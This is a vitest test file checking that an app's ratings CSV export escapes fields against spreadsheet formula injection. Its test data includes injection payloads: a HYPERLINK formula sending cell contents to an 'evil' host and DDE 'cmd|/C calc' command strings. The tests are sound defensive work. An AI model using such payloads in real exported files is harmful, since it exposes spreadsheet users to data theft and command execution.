import { describe, expect, test } from 'vitest';
import { csvField, exportRatings } from '../../src-main/core/rating/export';

/** Splits RFC 4180 CSV into rows of fields (quotes, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

const base = { rating: 7, artifacts: 1, ratedAt: Date.UTC(2025, 0, 2, 3, 4, 5), state: 'refused' as const, reward: null };

describe('ratings CSV export', () => {
  test.each([
    ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['plain reason', 'plain reason'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['', ''],
  ])('the text %j is written as %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  test('numbers stay numbers (a negative reward is not a formula) and null is an empty cell', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(12.5)).toBe('12.5');
    expect(csvField(null)).toBe('');
  });

  test('a service-supplied id and reason cannot become formulas, and every row keeps its columns', () => {
    const rows = [
      { ...base, imageId: '=cmd|"/C calc"!A0', reason: '@evil,\r\nsecond line' },
      { ...base, imageId: 'b7a4c1de', reason: '-refused' },
    ];
    const { content, filename, mime } = exportRatings(rows, 'csv', new Date(Date.UTC(2025, 5, 1)));
    expect(filename).toBe('hordedesk-ratings-2025-06-01.csv');
    expect(mime).toBe('text/csv');
    const parsed = parseCsv(content);
    expect(parsed).toHaveLength(3);
    for (const row of parsed) expect(row).toHaveLength(7);
    expect(parsed[1]).toEqual(['\'=cmd|"/C calc"!A0', '7', '1', '2025-01-02T03:04:05.000Z', 'refused', '', "'@evil,\r\nsecond line"]);
    expect(parsed[2]?.[0]).toBe('b7a4c1de');
    expect(parsed[2]?.[6]).toBe("'-refused");
    for (const row of parsed.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('JSON export keeps the text exactly as it is (no spreadsheet involved)', () => {
    const { content, filename, mime } = exportRatings([{ ...base, imageId: '=x', reason: null }], 'json', new Date(0));
    expect(filename).toBe('hordedesk-ratings-1970-01-01.json');
    expect(mime).toBe('application/json');
    expect(JSON.parse(content)[0].image_id).toBe('=x');
  });
});
